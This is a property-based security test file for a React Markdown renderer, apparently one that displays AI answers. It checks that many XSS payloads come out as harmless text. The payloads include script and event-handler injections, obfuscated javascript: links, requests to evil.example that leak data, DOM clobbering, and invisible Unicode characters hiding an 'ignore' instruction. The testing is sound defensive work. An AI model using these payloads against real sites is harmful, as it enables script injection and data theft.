import fc from 'fast-check'
import { parseHTML } from 'linkedom'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Markdown } from '../../../components/markdown/Markdown'

const tags = new Set(
  (
    'div p h3 h4 h5 h6 ul ol li blockquote hr br strong em del code pre span figure figcaption section table thead tbody ' +
    'tr th td a bdi sub sup kbd button input svg path rect circle line polyline'
  ).split(' '),
)

/** Attributes that the components themselves write. */
const attributes = new Set(
  (
    'class dir data-source data-testid href title target rel start style type disabled checked tabindex role id scope ' +
    'aria-label aria-hidden aria-pressed aria-live aria-labelledby ' +
    'xmlns width height viewbox fill stroke stroke-width stroke-linecap stroke-linejoin d cx cy r x y rx ry points x1 x2 y1 y2'
  ).split(' '),
)

/** What must not be in the drawn text, as sentences. */
function dangers(text: string, streaming: boolean): string[] {
  const { document } = parseHTML(
    `<html><body>${renderToStaticMarkup(<Markdown text={text} streaming={streaming} />)}</body></html>`,
  )
  return [...document.body.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase()
    const found = tags.has(tag) ? [] : [`element ${tag}`]
    for (const { name, value } of element.attributes) {
      if (!attributes.has(name.toLowerCase())) found.push(`attribute ${name} on ${tag}`)
      if (name === 'style' && !/^(?:text-align:(?:left|right|center)|--gutter:[\d.]+ch);?$/.test(value)) {
        found.push(`style ${value}`)
      }
      if (name === 'id' && !value.startsWith('note-')) found.push(`id ${value}`)
      if (name === 'href' && !/^(?:https?|mailto):$/.test(new URL(value).protocol)) found.push(`link ${value}`)
      if (name === 'href' && new URL(value).username !== '') found.push(`link with a user ${value}`)
    }
    if (
      tag === 'a' &&
      (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer')
    ) {
      found.push('a link that knows its opener')
    }
    if (tag === 'a' && element.querySelector('a')) found.push('a link in a link')
    return found
  })
}

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="alert(1)">',
  '<img src="https://evil.example/h?q=secret">',
  '<svg onload="alert(1)"><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><maction actiontype="statusline#https://evil.example">x</maction></math>',
  '<iframe src="https://evil.example/f" srcdoc="<script>parent.x=1</script>"></iframe>',
  '<style>body{background:url(https://evil.example/css)}</style>',
  '<link rel="dns-prefetch" href="https://evil.example">',
  '<form action="https://evil.example"><input name=p><button formaction=x>ok</button></form>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<img name="getElementById"><form id="body"></form>',
  '<details open ontoggle="alert(1)"><summary>s</summary></details>',
  '<a href="javascript:alert(1)">c</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
  '<base href="https://evil.example/">',
  '<object data="x"></object><embed src="x">',
  '<video src=x onerror=alert(1)><audio src=x>',
  '<pre><img src=x onerror=alert(1)></pre>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!-- --><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<Component onClick={() => alert(1)} />',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<marquee onstart=alert(1)>',
  '<picture><source srcset="https://evil.example/s"></picture>',
]

const targets = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&Tab;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'java\u200bscript:alert(1)',
  'feed:javascript:alert(1)',
  'data:text/html,<b>x</b>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'data:image/png;base64,AAAA',
  'vbscript:msgbox(1)',
  'blob:https://a.example/b',
  'file:///etc/passwd',
  'chrome://settings',
  'chrome-extension://abc/x.html',
  'https://user:password@evil.example',
  'https://good.example@evil.example/',
  '//evil.example/x',
  '/options.html',
  '#top',
]

/** One target in every place that takes one. */
const places: readonly ((target: string) => string)[] = [
  (target) => `[x](${target})`,
  (target) => `[x](<${target}> "title")`,
  (target) => `![x](${target})`,
  (target) => `[![x](${target})](${target})`,
  (target) => `[x][a] ![y][a] [a]\n\n[a]: ${target}`,
  (target) => `<${target}>`,
  (target) => `bare ${target} text`,
  (target) => `> - **[x](${target})**\n>\n> # ![x](${target})`,
  (target) => `| [x](${target}) |\n|---|\n| ![x](${target}) |`,
  (target) => `Note[^n].\n\n[^n]: [x](${target}) ![x](${target})`,
  (target) => `<a href="${target}"><img src="${target}"></a>`,
]

const attacks = [
  ...html,
  ...html.flatMap((text) => [
    `> ${text}`,
    `- a\n\n  ${text}`,
    `| a |\n|---|\n| ${text} |`,
    `**${text}**`,
    `a ${text} b`,
  ]),
  ...targets.flatMap((target) => places.map((place) => place(target))),
  '```" onmouseover="alert(1)\ncode\n```',
  '```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '[x](https://evil.example "\\" onmouseover=alert(1)")',
  '# <img id=body> {#body}',
  '[^<img src=x>]: <script>alert(1)</script>\n\nx[^<img src=x>]',
  '[a](https://x.example/[b](https://y.example)) [a [b](https://y.example) c](https://x.example)',
  '[see https://y.example here](https://x.example)',
  '---\ntitle: <script>alert(1)</script>\n---\ntext',
  '[__proto__]: https://x.example\n\n[__proto__] [constructor] [^__proto__]',
]

describe('an answer made to harm', () => {
  it.each(attacks)('comes out as harmless text: %j', (text) => {
    expect(dangers(text, false)).toEqual([])
    expect(dangers(text, true)).toEqual([])
  })

  it('is harmless at every moment while it streams', { timeout: 60_000 }, () => {
    for (const text of attacks.filter((_, index) => index % 4 === 0)) {
      for (let end = 1; end < text.length; end += 3) expect(dangers(text.slice(0, end), true)).toEqual([])
    }
  })

  it('is harmless in any mixture', { timeout: 60_000 }, () => {
    const parts = fc.constantFrom(
      ...attacks,
      '\n',
      '\n\n',
      '> ',
      '- ',
      '`',
      '```\n',
      '[',
      '](',
      ')',
      '<',
      '&',
      '\\',
      '|',
    )
    fc.assert(
      fc.property(fc.array(parts, { minLength: 2, maxLength: 6 }), fc.boolean(), (mixture, streaming) => {
        expect(dangers(mixture.join(''), streaming)).toEqual([])
      }),
      { numRuns: 300 },
    )
  })

  it('shows raw HTML as it was written', () => {
    const markup = renderToStaticMarkup(<Markdown text={'a <img src=x onerror="alert(1)"> b'} streaming={false} />)
    expect(markup).toContain('a &lt;img src=x onerror=&quot;alert(1)&quot;&gt; b')
  })

  it('hides nothing in characters that cannot be seen', () => {
    const tagged = Array.from('ignore', (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')
    const text = `a${tagged}b c\u200bd e\u202ef &#8238;g &ZeroWidthSpace;h \`i\u2066j\`\n\n\`\`\`\nk\u202el\u001bm\n\`\`\``
    const markup = renderToStaticMarkup(<Markdown text={text} streaming={false} />)
    expect(markup).not.toMatch(/\p{Cf}|[^\P{Cc}\n]/u)
    expect(markup).toContain('ab cd ef g h ')
    expect(markup).toContain('klm')
  })
})
